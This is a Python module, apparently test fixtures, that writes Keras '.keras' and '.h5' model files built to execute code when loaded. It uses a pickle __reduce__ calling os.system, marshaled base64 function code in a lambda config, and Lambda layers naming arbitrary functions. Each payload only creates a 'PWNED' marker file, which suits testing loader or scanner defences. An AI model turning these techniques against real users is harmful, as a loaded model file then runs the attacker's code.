"""Files that attack whoever loads them."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py

MARK = "PWNED"
"""The file that a payload writes."""


class Evil:
    """Runs a command when it is unpickled."""

    def __reduce__(self) -> Any:
        return os.system, (f"touch {MARK}",)


def _payload(*_args: Any, **_kwargs: Any) -> Any:
    return __import__("os").system("touch PWNED")


CODE = base64.b64encode(marshal.dumps(_payload.__code__)).decode()
PICKLE = base64.b64encode(pickle.dumps(Evil())).decode()
PICKLED_LAMBDA = {
    "class_name": "__lambda__",
    "config": {"code": CODE, "defaults": None, "closure": None},
}


def function(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def layer(kind: str, home: str = "keras.layers", /, **config: Any) -> dict[str, Any]:
    return {
        "module": home,
        "class_name": kind,
        "config": {"name": "evil", **config},
        "registered_name": None,
        "name": "evil",
    }


def calling(module: str, name: str, inputs: Any, **arguments: Any) -> dict[str, Any]:
    """Describe a Lambda that calls a function at once, with what the file says."""
    described = layer("Lambda", function=function(module, name), arguments=arguments)
    return {**described, "inbound_nodes": [{"args": [], "kwargs": {"inputs": inputs}}]}


def tensor(shape: Any = (None, 3), dtype: str = "float32") -> dict[str, Any]:
    config = {"shape": list(shape), "dtype": dtype, "keras_history": ["x", 0, 0]}
    return {"class_name": "__keras_tensor__", "config": config}


def model(*described: dict[str, Any], shape: Any = (None, 3), dtype: str = "float32") -> Any:
    """Describe a model with an input and these layers, each called on the input."""
    entry = layer("InputLayer", batch_shape=list(shape), dtype=dtype)
    entry["config"]["name"] = entry["name"] = "x"
    calls = {"inbound_nodes": [{"args": [tensor(shape, dtype)], "kwargs": {}}]}
    last = described[-1].get("name", "x") if described else "x"
    config = {
        "name": "m",
        "trainable": True,
        "layers": [{**entry, "inbound_nodes": []}, *({**calls, **one} for one in described)],
        "input_layers": [["x", 0, 0]],
        "output_layers": [[last, 0, 0]],
    }
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": config,
        "registered_name": "Functional",
    }


def sequential(*described: dict[str, Any], **config: Any) -> Any:
    return layer("Sequential", "keras", layers=[*described], **config)


def weights(write: Callable[[Any], None] | None = None) -> bytes:
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_group("layers")
        if write is not None:
            write(file)
    return buffer.getvalue()


def archive(
    path: Path,
    config: Any,
    write: Callable[[Any], None] | None = None,
    extra: dict[str, bytes] | None = None,
) -> Path:
    """Write a `.keras` file."""
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "3.12.0"}))
        file.writestr("config.json", text)
        file.writestr("model.weights.h5", weights(write))
        for name, data in (extra or {}).items():
            file.writestr(name, data)
    return path


def legacy(path: Path, config: Any, training: Any = None) -> Path:
    """Write a `.h5` file."""
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.13.0"
        if training is not None:
            file.attrs["training_config"] = json.dumps(training)
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"x"]
        group.create_group("x").attrs["weight_names"] = []
        group.create_group("top_level_model_weights").attrs["weight_names"] = []
        group.attrs["keras_version"] = "2.13.0"
        group.attrs["backend"] = "tensorflow"
    return path


def legacy_model(kind: str, **config: Any) -> Any:
    entry = {"class_name": "InputLayer", "config": {"batch_shape": [None, 3], "name": "x"}}
    described = {"class_name": kind, "config": {"name": "evil", **config}}
    return {"class_name": "Sequential", "config": {"name": "m", "layers": [entry, described]}}
